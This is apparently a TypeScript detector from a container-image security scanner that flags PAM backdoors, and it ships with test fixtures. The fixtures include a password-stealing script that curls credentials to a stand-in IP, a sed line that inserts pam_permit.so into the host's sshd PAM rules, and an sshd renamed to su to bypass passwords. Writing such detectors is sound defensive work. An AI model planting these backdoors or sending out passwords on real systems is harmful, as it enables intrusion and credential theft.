import type { FileFact } from '../inspect/facts.ts';
import { literals } from '../trace/value.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { fileFinding } from './file-finding.ts';
import { reachOfFile } from './file-place.ts';
import { plantedHooks } from './planted-hook.ts';
import { packageOwning } from './setting.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { sshServerReach } from './ssh-server.ts';

/** Logins that let everybody in, or tell passwords to a program. */
export const pamBackdoor: Detector = {
  id: 'pam-backdoor',
  version: 1,
  title: 'Lets anybody log in, or takes the passwords of those who do.',
  attack: ['T1556.003'],
  description: `
PAM asks the modules listed in \`/etc/pam.d\` who may log in. \`auth sufficient pam_permit.so\` before the password is checked
lets everybody in; \`pam_exec.so expose_authtok PROGRAM\` hands every password to a program; a module of unknown origin can do
both. *Suspicious* in the image, *malicious* when an SSH server is started with it, when the program is a payload, or when
it is done to the host. The \`pam_permit.so\` at the end of Debian's \`common-auth\` is harmless: the password was checked.
`,
  fires: [
    {
      name: 'everybody may log in over SSH',
      image: {
        cmd: ['/usr/sbin/sshd', '-D'],
        files: { '/etc/pam.d/sshd': 'auth sufficient pam_permit.so\n@include common-auth\n' },
      },
    },
    {
      name: 'everybody may become root',
      severity: 'suspicious',
      image: {
        cmd: ['app'],
        files: { '/etc/pam.d/su': 'auth sufficient pam_permit.so\nauth required pam_unix.so\n' },
      },
    },
    {
      name: 'passwords go to a program',
      severity: 'suspicious',
      image: {
        cmd: ['app'],
        files: { '/etc/pam.d/common-auth': 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/seen\n' },
      },
    },
    {
      name: 'passwords are sent away',
      image: {
        cmd: ['app'],
        files: {
          '/etc/pam.d/common-auth': 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/seen\n',
          '/usr/local/bin/seen': {
            content: '#!/bin/sh\nread p\ncurl -s -d "$PAM_USER:$p" http://198.51.100.7/p\n',
            mode: 0o755,
          },
        },
      },
    },
    {
      name: "into the host's",
      image: { cmd: ['sh', '-c', `sed -i '1i auth sufficient pam_permit.so' /host/etc/pam.d/sshd; exec app`] },
    },
    {
      name: 'an SSH server under the name of su',
      image: { cmd: ['sh', '-c', 'ln -sf /usr/sbin/sshd /tmp/su; /tmp/su -oPort=31337; exec app'] },
    },
    {
      name: 'a module of its own',
      severity: 'suspicious',
      image: {
        cmd: ['app'],
        files: { '/etc/pam.d/sshd': 'auth required /usr/lib/.x/pam_log.so\n@include common-auth\n' },
      },
    },
  ],
  silent: [
    {
      name: "Debian's common-auth",
      image: {
        files: {
          '/etc/pam.d/common-auth':
            'auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n',
        },
      },
    },
    { name: 'root needs no password', image: { files: { '/etc/pam.d/su': 'auth sufficient pam_rootok.so\n' } } },
    {
      name: 'a session that needs no login record',
      image: {
        cmd: [
          'sh',
          '-c',
          `sed 's@session\\s*required\\s*pam_loginuid.so@session optional pam_loginuid.so@g' -i /etc/pam.d/sshd; exec app`,
        ],
      },
    },
    {
      name: 'a program that tells of logins, without passwords',
      image: {
        files: {
          '/etc/pam.d/sshd': 'session optional pam_exec.so /usr/local/bin/notify\n',
          '/usr/local/bin/notify': {
            content: '#!/bin/sh\ncurl -s -d "$PAM_USER logged in" https://chat.example/hook\n',
            mode: 0o755,
          },
        },
      },
    },
  ],
  detect(scene) {
    return [
      ...written(scene),
      ...lying(scene),
      ...renamedServer(scene),
      ...plantedHooks(scene, {
        events: ['authentication'],
        starts: ['pam'],
        when: 'whenever somebody gives a password',
        toldBy: 'expose_authtok',
      }),
    ];
  },
};

/** `ln -sf /usr/sbin/sshd /tmp/su`: PAM takes the rules of `su`, which ask root for nothing. */
function renamedServer(scene: Scene): readonly FindingDraft[] {
  return scene.story.commands.flatMap((command) => {
    if (command.name !== 'ln' && command.name !== 'cp') return [];
    const words = command.argv
      .slice(1)
      .map(literals)
      .filter((word) => !word.startsWith('-'));
    const [source = '', target = ''] = words;
    const name = target.slice(target.lastIndexOf('/') + 1);
    if (words.length !== 2 || !/(^|\/)sshd$/.test(source) || !asksNothing.has(name)) return [];
    return findingOf(scene, sightingOf(scene, { stage: command.stage, line: command.line, command: command.id }), {
      threat: 'hostile',
      title: `Makes an SSH server that asks for no password, by calling it ${name}`,
      because: `It is judged by the rules of ${name}, which ask root for nothing.`,
      attack: ['T1036.003'],
    });
  });
}

/** Services whose rules start with `pam_rootok.so`. */
const asksNothing = new Set(['su', 'su-l', 'runuser', 'chfn', 'chsh', 'groupadd', 'useradd']);

/** Services whose rules decide about logins; others (autologin of a desktop) may well let everybody in. */
const logins = new Set([
  'sshd',
  'login',
  'su',
  'su-l',
  'sudo',
  'common-auth',
  'system-auth',
  'password-auth',
  'base-auth',
]);

interface Weakness {
  readonly line: number;
  readonly text: string;
  readonly title: string;
}

function written(scene: Scene): readonly FindingDraft[] {
  const hooks = effectsOf(scene, 'hook').filter(({ event }) => event === 'authentication');
  return hooks.slice(0, mostHooks).flatMap((effect) => {
    const command = effect.command === undefined ? undefined : scene.story.commands[effect.command];
    const sighting = sightingOf(scene, effect);
    const content = scene.story.effects.find(
      (each) => (each.kind === 'write' || each.kind === 'append') && each.command === effect.command,
    );
    const text = content !== undefined && 'content' in content ? literals(content.content ?? []) : '';
    const [weak] = weaknesses(text === '' ? (command?.text ?? '') : text, () => true);
    if (weak === undefined) return [];
    return findingOf(scene, sighting, {
      threat: 'dual-use',
      onHost: sighting.outside !== undefined,
      paired: pairedWithServer(scene),
      title: `${weak.title}${sighting.outside ? ' on the HOST' : ''}`,
      effects: [effect.id],
    });
  });
}

/** Writes looked at; more is not one person's script. */
const mostHooks = 200;

function lying(scene: Scene): readonly FindingDraft[] {
  return [...scene.facts.files.list('/etc/pam.d')].slice(0, 200).flatMap((file: FileFact) => {
    const service = file.path.slice(file.path.lastIndexOf('/') + 1);
    const text = file.type === 'file' ? scene.facts.files.text(file) : undefined;
    if (text === undefined || !logins.has(service)) return [];
    return weaknesses(text, (module) => packageOwning(scene, module) === undefined).flatMap((weak) =>
      fileFinding(scene, {
        threat: 'dual-use',
        paired: service === 'sshd' || service.endsWith('-auth') ? pairedWithServer(scene) : undefined,
        path: file.path,
        layer: file.layer,
        line: weak.line,
        reach: reachOfFile(scene, file.path, file.layer, 'armed'),
        title: `${weak.title} (${service})`,
        text: weak.text,
      }),
    );
  });
}

function pairedWithServer(scene: Scene): string | undefined {
  return sshServerReach(scene) === undefined
    ? undefined
    : 'The image starts an SSH server, so anybody can come in that way.';
}

/** Rules that let everybody in, hand passwords over or load a module by a path; `foreign` says whether nobody claims it. */
function weaknesses(text: string, foreign: (module: string) => boolean): readonly Weakness[] {
  const found: Weakness[] = [];
  let checked = false;
  text
    .slice(0, 100_000)
    .split('\n', 1000)
    .forEach((line, index) => {
      const at = line.search(/\bauth[ \t]/);
      if (at < 0 || line.trimStart().startsWith('#')) {
        if (/^\s{0,10}@include\s/.test(line)) checked = true;
        return;
      }
      const rule = line.slice(at + 4).trim();
      const place = { line: index + 1, text: line.trim().slice(0, 300) };
      const module =
        /(\/?[A-Za-z0-9_./-]{0,200}pam_[a-z0-9_]{1,40}\.so|\/[A-Za-z0-9_./-]{1,200}\.so)/.exec(rule)?.[1] ?? '';
      if (
        module.endsWith('pam_permit.so') &&
        !checked &&
        /^(sufficient|required|requisite|\[[^\]]{0,80}success=(done|end)\b)/.test(rule)
      )
        found.push({ ...place, title: 'Lets everybody log in without a password' });
      else if (module.endsWith('pam_exec.so') && rule.includes('expose_authtok'))
        found.push({ ...place, title: 'Hands the password of everybody who logs in to a program' });
      else if (module.startsWith('/') && !standard.test(module) && foreign(module))
        found.push({ ...place, title: 'Asks a module of unknown origin who may log in' });
      if (/pam_(unix|sss|ldap|krb5|winbind|deny|pwdb|rootok|wheel|u2f|google_authenticator)\.so/.test(module))
        checked = true;
    });
  return found;
}

const standard = /^\/(usr\/)?lib(64|\/[a-z0-9_-]{1,40})?\/security\//;
